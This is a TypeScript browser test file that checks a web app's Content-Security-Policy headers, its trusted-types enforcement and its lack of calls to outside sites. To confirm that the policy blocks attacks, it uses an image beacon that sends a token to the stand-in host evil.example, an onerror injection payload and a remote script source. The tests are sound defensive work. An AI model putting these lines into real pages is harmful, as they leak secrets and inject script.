import { fillForm } from '../forms/fill-form.ts';
import { recordedForm } from '../forms/recorded.ts';
import { askButton, openFixture } from '../open-lab.ts';
import { expect, test } from '../people/person.ts';

const HASH = /^'sha256-[\w+/]{43}='$/;

test('pages have a policy that forbids inline code and eval', async ({ page }) => {
  for (const path of ['/', '/lab', '/nowhere']) {
    const answer = await page.goto(path);
    const policy = (await answer?.headerValue('content-security-policy')) ?? '';
    const rules = new Map(
      policy.split(';').map((rule) => {
        const [name = '', ...sources] = rule.trim().split(' ');
        return [name, sources] as const;
      }),
    );
    // Inline scripts, allowed by their hashes, must run before the first paint.
    const [self, ...hashes] = rules.get('script-src') ?? [];
    expect(self, path).toBe("'self'");
    expect(hashes, path).toEqual(hashes.map(() => expect.stringMatching(HASH)));
    expect(rules.get('style-src'), path).toEqual(["'self'"]);
    expect(rules.get('default-src'), path).toEqual(["'self'"]);
    expect(rules.get('object-src'), path).toEqual(["'none'"]);
    expect(rules.get('base-uri'), path).toEqual(["'none'"]);
    const frames = path === '/lab' ? "'self'" : "'none'";
    expect(rules.get('frame-ancestors'), path).toEqual([frames]);
    expect(rules.get('require-trusted-types-for'), path).toEqual(["'script'"]);
    expect(policy).not.toContain('unsafe');
  }
});

test('a violation of the policy fails every test here: a picture carries nothing away', async ({
  page,
  noise,
}) => {
  await page.goto('/');
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/?token';
  });
  await expect.poll(() => noise.join('\n')).toContain('policy: img-src https://evil.example/');
  noise.length = 0;
});

test.describe('a script', () => {
  test.use({ expectedNoise: /requires 'Trusted|policy: require-trusted-types-for/ });

  test('writes no markup but drawings, and no code', async ({ page }) => {
    for (const path of ['/', '/lab']) {
      await page.goto(path);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      const written = await page.evaluate(() => {
        const write = (act: () => void) => {
          try {
            act();
            return 'written';
          } catch {
            return 'refused';
          }
        };
        const box = document.createElement('div');
        const script = document.createElement('script');
        return [
          write(() => (box.innerHTML = '<svg/>')),
          write(() => (box.innerHTML = '<img src="/none.png" onerror="document.title = 1">')),
          write(() => (script.textContent = 'document.title = 1')),
          write(() => (script.src = 'https://evil.example/')),
        ];
      });
      expect(written, path).toEqual(['written', 'refused', 'refused', 'refused']);
    }
  });
});

test('a page calls no other site', async ({ page, baseURL }) => {
  const asked = new Set<string>();
  page.on('request', (request) => asked.add(new URL(request.url()).origin));
  const form = await openFixture(page, 'create/home.mebel');
  await fillForm(form, recordedForm('home.mebel'));
  await askButton(form).click();
  await expect(page.getByRole('dialog', { name: 'Сервер принял форму' })).toBeVisible();
  expect([...asked]).toEqual([new URL(baseURL ?? '').origin]);
});
